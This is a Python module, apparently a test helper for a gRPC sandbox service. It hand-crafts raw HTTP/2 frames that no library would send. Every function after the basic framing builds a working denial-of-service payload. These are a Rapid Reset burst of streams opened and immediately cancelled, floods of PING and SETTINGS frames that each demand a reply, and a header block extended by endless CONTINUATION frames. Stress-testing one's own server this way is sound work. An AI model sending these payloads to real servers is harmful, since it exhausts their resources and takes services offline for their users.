"""Just enough HTTP/2, by hand, to be rude to a server: no library would send these frames."""

from __future__ import annotations

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field, literal and never indexed."""
    return b"\x10" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(path: str) -> bytes:
    """The header block of a gRPC request."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(literal(name, value) for name, value in fields.items())


def connect(address: tuple[str, int]) -> socket.socket:
    """A connection on which preface and settings have been said."""
    opened = socket.create_connection(address, timeout=20)
    opened.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return opened


def rapid_reset(count: int) -> bytes:
    """Streams opened and reset at once."""
    block = request_headers("/cruxbox.v1.Sandbox/Check")
    parts = []
    for number in range(count):
        stream = 2 * number + 1
        parts.append(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return b"".join(parts)


def pings(count: int) -> bytes:
    """Pings that want an answer each."""
    return frame(PING, 0, 0, b"cruxbox!") * count


def settings(count: int) -> bytes:
    """Settings that want an acknowledgement each."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * count


def continuations(count: int) -> bytes:
    """A header block that never ends."""
    first = frame(HEADERS, 0, 1, request_headers("/cruxbox.v1.Sandbox/Check"))
    return first + frame(CONTINUATION, 0, 1, literal("x-more", "y" * 100)) * count
